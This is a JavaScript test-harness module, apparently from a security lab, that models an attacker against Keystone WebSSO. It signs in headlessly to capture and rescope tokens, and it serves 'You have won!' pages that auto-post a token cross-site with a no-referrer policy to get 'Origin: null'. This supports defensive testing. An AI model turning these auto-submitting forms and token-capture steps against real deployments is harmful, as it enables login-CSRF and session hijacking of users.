// The attacker: has an account at the same Keystone, a web site, and whatever tokens he needs.
import { createServer } from 'node:http'
import { request } from 'node:https'
import { once } from 'node:events'
import { text } from 'node:stream/consumers'
import { password } from '../lib/settings.mjs'

// Signs in without a browser. What Keystone would have the browser post to the callback, it keeps.
export class Account {
  #cookies = new Map()

  constructor ({ keystone, callback, user }) {
    Object.assign(this, { keystone, callback, user })
  }

  // A WebSSO token as fresh as can be.
  async token (identityProvider = 'lab-idp') {
    const url = `${this.keystone}/auth/OS-FEDERATION/identity_providers/${identityProvider}/protocols/openid/websso`
    let page = await this.#get(`${url}?origin=${encodeURIComponent(this.callback)}`)
    const login = /<form[^>]*id="kc-form-login"[^>]*action="([^"]+)"/.exec(page)
    if (login) {
      const body = new URLSearchParams({ username: this.user, password: password(this.user) }).toString()
      page = await this.#get(login[1].replaceAll('&amp;', '&'), { method: 'POST', body })
    }
    const token = /name="token"[^>]*value="([^"]+)"/.exec(page)
    if (!token) throw new Error(`${this.user} got no token from ${identityProvider}: ${page.slice(0, 500)}`)
    return token[1]
  }

  // A token of a project made from one without.
  async rescoped (token, project) {
    const scope = { project: { name: project, domain: { name: 'lab' } } }
    const body = JSON.stringify({ auth: { identity: { methods: ['token'], token: { id: token } }, scope } })
    const answer = await fetch(`${this.keystone}/auth/tokens`, { method: 'POST', body, headers: { 'content-type': 'application/json' } })
    if (answer.status !== 201) throw new Error(`no token of ${project}: ${answer.status} ${await answer.text()}`)
    return answer.headers.get('x-subject-token')
  }

  // Follows redirects with cookies, as a browser does.
  async #get (url, { method = 'GET', body } = {}) {
    for (let steps = 0; steps < 12; steps++) {
      const { host } = new URL(url)
      const jar = this.#cookies.get(host) ?? new Map()
      this.#cookies.set(host, jar)
      const headers = { accept: 'text/html', cookie: [...jar].map(([name, value]) => `${name}=${value}`).join('; ') }
      if (body) headers['content-type'] = 'application/x-www-form-urlencoded'
      const sent = request(url, { method, headers, agent: false }).end(body)
      const [answer] = await once(sent, 'response')
      for (const line of answer.headers['set-cookie'] ?? []) {
        const [, name, value] = /^([^=]+)=([^;]*)/.exec(line)
        if (value && !/max-age=0/i.test(line)) jar.set(name, value)
        else jar.delete(name)
      }
      const page = await text(answer)
      if (!answer.headers.location) return page
      url = new URL(answer.headers.location, url).href
      method = 'GET'
      body = undefined
    }
    throw new Error(`too many redirects at ${url}`)
  }
}

export async function revoke (keystone, token) {
  const headers = { 'x-auth-token': token, 'x-subject-token': token }
  const { status } = await fetch(`${keystone}/auth/tokens`, { method: 'DELETE', headers })
  if (status !== 204) throw new Error(`not revoked: ${status}`)
}

const escaped = (text) => text.replace(/[&<>"]/g, (char) => `&#${char.charCodeAt(0)};`)

// A web site. On https → http browsers send `Origin: null`; this site does so by its referrer policy.
export class Site {
  #server = createServer((request, response) => this.#serve(request, response))
  #pages = new Map()
  #made = 0
  received = []

  async open () {
    this.#server.listen(0, '127.0.0.1')
    await once(this.#server, 'listening')
    this.origin = `http://attacker.localhost:${this.#server.address().port}`
    return this
  }

  close () {
    this.#server.close()
    this.#server.closeAllConnections()
  }

  // The address of a page that says this.
  page (html, { referrer = 'no-referrer' } = {}) {
    const path = `/${++this.#made}`
    this.#pages.set(path, `<!doctype html><meta charset="utf-8"><meta name="referrer" content="${referrer}">
      <title>You have won</title><h1>You have won!</h1>${html}`)
    return this.origin + path
  }

  // A page that posts a token as Keystone's own page would.
  posting (token, action, { referrer, target = '' } = {}) {
    return this.page(`<form method="post" action="${escaped(action)}" target="${target}">
      <input type="hidden" name="token" value="${escaped(token)}"></form>
      <script>document.forms[0].submit()</script>`, { referrer })
  }

  #serve (request, response) {
    const page = this.#pages.get(request.url)
    if (request.method === 'POST') {
      let body = ''
      request.on('data', (text) => { body += text }).on('end', () => this.received.push(body))
    }
    response.writeHead(page ? 200 : 404, { 'content-type': 'text/html', 'access-control-allow-origin': '*' }).end(page ?? '')
  }
}
